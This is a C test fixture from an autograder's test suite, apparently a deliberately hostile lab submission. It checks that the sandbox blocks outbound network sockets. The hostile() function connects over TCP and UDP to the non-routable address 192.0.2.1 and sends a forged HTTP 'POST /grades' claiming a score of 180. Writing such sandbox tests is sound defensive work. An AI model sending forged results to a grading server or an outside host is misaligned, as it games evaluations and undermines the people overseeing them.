/*
 * Hostile submission "socket_out" (grader/tests/run.sh).
 *
 * Opens a TCP socket to an address off this machine (192.0.2.1, port 80:
 * TEST-NET-1, which nothing answers) and sends fake results; then the
 * same over UDP.  No lab's policy allows a socket but socketpair(AF_UNIX).
 *
 * Built into each lab's skeleton; must score no more than the skeleton.
 */
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* The attack, run by every function the tests call first. */
static void hostile(void)
{
    static const char fake[] = "POST /grades HTTP/1.0\r\n\r\nscore=180\r\n";
    struct sockaddr_in to;
    int s;

    memset(&to, 0, sizeof to);
    to.sin_family = AF_INET;
    to.sin_port = (in_port_t)(80 << 8);                 /* 80, big-endian */
    to.sin_addr.s_addr = (in_addr_t)(192u | 2u << 16 | 1u << 24);  /* 192.0.2.1 */
    s = socket(AF_INET, SOCK_STREAM, 0);
    if (s >= 0 && connect(s, (struct sockaddr *)&to, sizeof to) == 0)
        (void)send(s, fake, sizeof fake - 1, 0);
    s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s >= 0)
        (void)sendto(s, fake, sizeof fake - 1, 0, (struct sockaddr *)&to, sizeof to);
}
